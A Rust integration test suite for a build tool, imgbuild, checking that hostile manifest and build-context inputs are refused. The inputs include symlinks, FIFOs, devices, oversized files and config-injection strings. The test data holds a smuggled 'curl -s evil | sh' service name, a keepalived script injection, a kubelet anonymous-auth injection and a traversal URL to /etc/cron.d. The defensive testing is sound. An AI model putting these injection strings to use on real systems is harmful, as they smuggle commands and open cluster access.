//! Hostile inputs to the manifest stage and the build context: symbolic
//! links, FIFOs, devices and oversized files where manifests and layer trees
//! are read; strings that would inject text into root-run configs; values
//! that used to panic. Each is refused with an error that names the file
//! (and line and column), never followed, never echoed whole, never a panic.

use std::os::unix::fs::symlink;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::artifacts::{Serve, serve};
use crate::http::Server;
use crate::lab::{Lab, Run};

/// No run of imgbuild may end in a Rust panic.
fn assert_no_panic(run: &Run) {
    let err = run.stderr();
    assert!(
        !err.contains("panicked") && run.out.status.code() != Some(101),
        "imgbuild panicked:\n{err}"
    );
}

/// Runs imgbuild in the lab, killed after `limit`: a run that waits on a
/// FIFO fails the test instead of hanging it.
fn imgbuild_within(lab: &Lab, args: &[&str], limit: Duration) -> Run {
    let mut child = Command::new(env!("CARGO_BIN_EXE_imgbuild"))
        .current_dir(lab.dir.path())
        .args(args)
        .env_remove("IMGBUILD_CACHE")
        .env_remove("IMGBUILD_STATE")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > limit {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("imgbuild {args:?} still ran after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Run {
        out: child.wait_with_output().unwrap(),
    }
}

fn mkfifo(path: &std::path::Path) {
    let ok = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(ok.success(), "mkfifo {}", path.display());
}

#[test]
fn a_symlinked_layer_directory_is_refused_not_followed() {
    let lab = Lab::new();
    // a state dir holding a CA key, and layers/base-node pointing at it
    let state = lab.path("state/ilinux");
    std::fs::create_dir_all(state.join("pki")).unwrap();
    std::fs::write(state.join("pki/ca.key"), "-----BEGIN PRIVATE KEY-----\n").unwrap();
    std::fs::remove_dir_all(lab.path("layers/base-node")).unwrap();
    symlink(&state, lab.path("layers/base-node")).unwrap();
    let loc = lab.at("roles/base.yaml", "node: [base-node]", "base-node");
    let run = lab
        .plan("master01")
        .assert_error(&loc, "layer directory `base-node` is a symbolic link");
    assert!(!run.stdout().contains("ca.key"), "{}", run.stdout());
}

#[test]
fn symlinked_manifest_files_are_refused() {
    for file in ["cluster.yaml", "pins.toml", "roles/lb.yaml"] {
        let lab = Lab::new();
        let real = lab.path("elsewhere.txt");
        std::fs::rename(lab.path(&format!("manifests/{file}")), &real).unwrap();
        symlink(&real, lab.path(&format!("manifests/{file}"))).unwrap();
        lab.plan("master01")
            .assert_failed()
            .assert_stderr_has(&format!("cannot read manifest manifests/{file}"))
            .assert_stderr_has("it is a symbolic link");
    }
}

#[test]
fn a_symlinked_roles_directory_is_refused() {
    let lab = Lab::new();
    std::fs::rename(lab.path("manifests/roles"), lab.path("roles-elsewhere")).unwrap();
    symlink(lab.path("roles-elsewhere"), lab.path("manifests/roles")).unwrap();
    lab.plan("master01")
        .assert_failed()
        .assert_stderr_has("cannot read manifest manifests/roles")
        .assert_stderr_has("it is a symbolic link");
}

#[test]
fn links_fifos_and_sockets_inside_a_layer_tree_are_refused() {
    type Make = fn(&std::path::Path);
    let cases: [(&str, &str, Make); 3] = [
        ("passwd-link", "symbolic link", |p| {
            symlink("/etc/passwd", p).unwrap()
        }),
        ("pipe", "FIFO (named pipe)", mkfifo),
        ("sock", "socket", |p| {
            // the listener is dropped, its socket file stays
            std::os::unix::net::UnixListener::bind(p).unwrap();
        }),
    ];
    for (name, kind, make) in cases {
        let lab = Lab::new();
        make(&lab.path(&format!("layers/base/etc/{name}")));
        lab.plan("master01")
            .assert_failed()
            .assert_stderr_has(&format!(
                "layers/base/etc/{name} into a layer: it is a {kind}"
            ));
    }
}

#[test]
fn a_fifo_at_a_manifest_path_is_refused_without_waiting() {
    for file in ["cluster.yaml", "pins.toml", "roles/extra.yaml"] {
        let lab = Lab::new();
        let path = lab.path(&format!("manifests/{file}"));
        let _ = std::fs::remove_file(&path);
        mkfifo(&path);
        let run = imgbuild_within(
            &lab,
            &["plan", "--role", "master01"],
            Duration::from_secs(20),
        )
        .assert_failed()
        .assert_stderr_has(&format!("cannot read manifest manifests/{file}"))
        .assert_stderr_has("it is a FIFO (named pipe), not a regular file");
        assert_no_panic(&run);
    }
}

#[test]
fn a_device_at_a_manifest_path_is_refused() {
    let lab = Lab::new();
    let path = lab.path("manifests/cluster.yaml");
    std::fs::remove_file(&path).unwrap();
    // /dev/zero's numbers; only where this user may make device nodes
    let made = Command::new("mknod")
        .arg(&path)
        .args(["c", "1", "5"])
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        eprintln!("skipped: cannot mknod here");
        return;
    }
    imgbuild_within(
        &lab,
        &["plan", "--role", "master01"],
        Duration::from_secs(20),
    )
    .assert_failed()
    .assert_stderr_has("it is a character device, not a regular file");
}

#[test]
fn an_oversized_manifest_is_refused() {
    let lab = Lab::new();
    let f = std::fs::OpenOptions::new()
        .append(true)
        .open(lab.path("manifests/pins.toml"))
        .unwrap();
    f.set_len(17 << 20).unwrap();
    lab.plan("master01")
        .assert_failed()
        .assert_stderr_has("cannot read manifest manifests/pins.toml")
        .assert_stderr_has("larger than 16 MiB");
}

#[test]
fn a_parse_error_quotes_no_more_than_a_short_token_of_the_file() {
    let lab = Lab::new();
    let hash = format!("$6$saltsalt${}", "Ab1/".repeat(22));
    let line = format!("root:{hash}:19000:0:99999:7:::\n");
    std::fs::write(lab.path("manifests/cluster.yaml"), &line).unwrap();
    let run = lab.plan("master01").assert_failed();
    let err = run.stderr();
    assert!(err.contains("manifests/cluster.yaml:1:1: error:"), "{err}");
    assert!(!err.contains(&hash[..41]), "the hash is echoed:\n{err}");
    let toml = format!("password = \"{hash}\"\n");
    std::fs::write(lab.path("manifests/pins.toml"), &toml).unwrap();
    let err = lab.plan("master01").assert_failed().stderr();
    assert!(err.contains("manifests/pins.toml:1:1: error:"), "{err}");
    assert!(!err.contains(&hash[..41]), "the hash is echoed:\n{err}");
}

#[test]
fn control_characters_in_values_are_escaped_in_errors() {
    let lab = Lab::new().edit("cluster.yaml", "name: ilinux", "name: \"\\e[2J\\e[31mred\"");
    let run = lab.plan("master01").assert_failed();
    let err = run.stderr();
    assert!(
        !err.contains('\u{1b}'),
        "a raw escape reached the terminal: {err:?}"
    );
    assert!(err.contains("\\u{1b}[2J"), "{err}");
}

#[test]
fn a_newline_in_the_vrrp_interface_is_refused() {
    let lab = Lab::new().edit(
        "cluster.yaml",
        "vrrp_interface: eth0",
        "vrrp_interface: \"eth0\\n}\\nvrrp_script evil {\\n  script /tmp/x\\n}\"",
    );
    let loc = lab.at("cluster.yaml", "vrrp_interface:", "\"eth0");
    lab.plan("master01").assert_error(
        &loc,
        "api.vrrp_interface `eth0\\n}\\nvrrp_script evil {\\n  script /tmp/x\\n}` is not a network interface name",
    );
}

#[test]
fn a_host_network_interface_outside_ifnamsiz_is_refused() {
    let lab = Lab::new().edit(
        "cluster.yaml",
        "  interface: eth0",
        "  interface: \"eth0:\\n    dhcp4: true\"",
    );
    let loc = lab.at("cluster.yaml", "  interface:", "\"eth0");
    lab.plan("master01").assert_error(
        &loc,
        "host_network.interface `eth0:\\n    dhcp4: true` is not a network interface name",
    );
    let lab = Lab::new().edit(
        "cluster.yaml",
        "  interface: eth0",
        "  interface: sixteen-chars-xx",
    );
    let loc = lab.at("cluster.yaml", "  interface:", "sixteen");
    lab.plan("master01").assert_error(
        &loc,
        "host_network.interface `sixteen-chars-xx` is not a network interface name",
    );
}

#[test]
fn a_node_label_that_would_inject_an_environment_line_is_refused() {
    let lab = Lab::new().edit(
        "cluster.yaml",
        "topology.kubernetes.io/zone: rack-b",
        "topology.kubernetes.io/zone: \"rack-b\\\"\\nKUBELET_EXTRA=--anonymous-auth=true\"\n      \"evil\\nKEY\": x",
    );
    let value = lab.at("cluster.yaml", "topology.kubernetes.io/zone", "\"rack-b");
    let key = lab.at("cluster.yaml", "evil", "\"evil");
    lab.plan("master01")
        .assert_error(
            &value,
            "node `node03`: label value `rack-b\"\\nKUBELET_EXTRA=--anonymous-auth=true` is not a Kubernetes label value",
        )
        .assert_error(&key, "node `node03`: label key `evil\\nKEY` is not a Kubernetes label key");
}

#[test]
fn a_taint_outside_kubernetes_syntax_is_refused() {
    let lab = Lab::new().edit(
        "cluster.yaml",
        "    labels:\n",
        "    taints: [\"a=b\\\" --anonymous-auth=true:NoSchedule\"]\n    labels:\n",
    );
    let loc = lab.at("cluster.yaml", "anonymous-auth", "\"a=b");
    lab.plan("master01").assert_error(
        &loc,
        "taint `a=b\" --anonymous-auth=true:NoSchedule` must be `key[=value]:Effect`",
    );
}

#[test]
fn a_service_name_with_shell_text_is_refused() {
    let lab = Lab::new().edit(
        "roles/lb.yaml",
        "services: [haproxy.service, keepalived.service]",
        "services: [\"haproxy.service; curl -s evil | sh; x.service\", keepalived.service]",
    );
    let loc = lab.at("roles/lb.yaml", "services:", "\"haproxy");
    lab.plan("master01").assert_error(
        &loc,
        "service `haproxy.service; curl -s evil | sh; x.service` must be a systemd unit name",
    );
}

#[test]
fn pin_names_versions_urls_and_image_references_keep_to_their_syntax() {
    let lab = Lab::new()
        .edit(
            "pins.toml",
            "image = \"registry.k8s.io/pause:3.10.1\"",
            "image = \"registry.k8s.io/pause:3.10.1'\\nsnapshotter = 'x\"",
        )
        .edit(
            "pins.toml",
            "url = \"https://github.com/opencontainers/runc/releases/download/v1.4.3/runc.amd64\"",
            "url = \"https://github.com/../../../etc/cron.d/runc.amd64\"",
        )
        .edit("pins.toml", "name = \"coredns\"", "name = \"../coredns\"");
    let image = lab.at("pins.toml", "registry.k8s.io/pause", "\"registry");
    let url = lab.at("pins.toml", "cron.d", "\"https");
    let name = lab.at("pins.toml", "../coredns", "\"../coredns");
    lab.plan("master01")
        .assert_error(
            &image,
            "image pin `pause`: `registry.k8s.io/pause:3.10.1'\\nsnapshotter = 'x` must be `registry/repository:tag`",
        )
        .assert_error(&url, "pin `runc`: url `https://github.com/../../../etc/cron.d/runc.amd64` must be")
        .assert_error(&name, "pin name `../coredns` must be");
}

#[test]
fn every_rendered_string_problem_is_reported_at_once() {
    let lab = Lab::new()
        .edit(
            "cluster.yaml",
            "vrrp_interface: eth0",
            "vrrp_interface: \"a b\"",
        )
        .edit("cluster.yaml", "  interface: eth0", "  interface: \"..\"")
        .edit("cluster.yaml", "zone: rack-b", "zone: \"rack b\"")
        .edit(
            "roles/lb.yaml",
            "keepalived.service]",
            "\"keepalived service\"]",
        );
    let err = lab.plan("master01").assert_failed().stderr();
    for want in [
        "api.vrrp_interface `a b`",
        "host_network.interface `..`",
        "label value `rack b`",
        "service `keepalived service`",
    ] {
        assert!(err.contains(want), "missing {want}:\n{err}");
    }
    assert!(
        err.starts_with("error: the manifests have 4 errors"),
        "{err}"
    );
}

#[test]
fn a_validity_beyond_100_years_is_refused_not_a_panic() {
    let lab = Lab::new().edit(
        "cluster.yaml",
        "ca_validity_days: 3650",
        "ca_validity_days: 2920000",
    );
    let loc = lab.at("cluster.yaml", "ca_validity_days", "2920000");
    let run = lab.imgbuild(&["pki", "init"]);
    assert_no_panic(&run);
    run.assert_error(
        &loc,
        "a validity of 2920000 days is more than 36500 (100 years)",
    );
}

#[test]
fn imgbuild_now_outside_1970_to_9000_is_refused_not_a_panic() {
    for now in ["9999-12-31T23:59:59Z", "0000-01-01T00:00:00Z"] {
        let lab = Lab::new();
        let run = lab.imgbuild_env(&["pki", "init"], &[("IMGBUILD_NOW", now)]);
        assert_no_panic(&run);
        run.assert_failed().assert_stderr_has(&format!(
            "IMGBUILD_NOW=`{now}` is outside the years 1970 to 9000"
        ));
    }
}

#[test]
fn source_date_epoch_outside_32_bits_is_refused() {
    for sde in ["-1", "4294967296"] {
        let lab = Lab::new();
        lab.imgbuild_env(
            &["plan", "--role", "master01"],
            &[("SOURCE_DATE_EPOCH", sde)],
        )
        .assert_failed()
        .assert_stderr_has(&format!(
            "SOURCE_DATE_EPOCH=`{sde}` is outside 0 to 4294967295"
        ));
    }
}

/// Each layer's compressor starts `--jobs` threads, `cluster` builds
/// `--jobs` nodes at once: 10000 of each must not exhaust the process (4 GiB
/// of address space, as a modest build host has).
#[test]
fn an_absurd_jobs_count_builds_instead_of_aborting() {
    let server = Server::start();
    let lab = Lab::lab_cluster();
    serve(&lab, &server, Serve::Mirror, 64 << 10);
    let cmd = format!(
        "ulimit -v 4194304; exec '{}' --cache cache --mirror {} --jobs 10000 cluster --out out",
        env!("CARGO_BIN_EXE_imgbuild"),
        server.url("mirror")
    );
    let out = Command::new("sh")
        .arg("-c")
        .arg(cmd)
        .current_dir(lab.dir.path())
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .env("IMGBUILD_NOW", "2026-11-23T00:00:00Z")
        .output()
        .unwrap();
    let run = Run { out };
    assert_no_panic(&run);
    run.assert_ok();
}
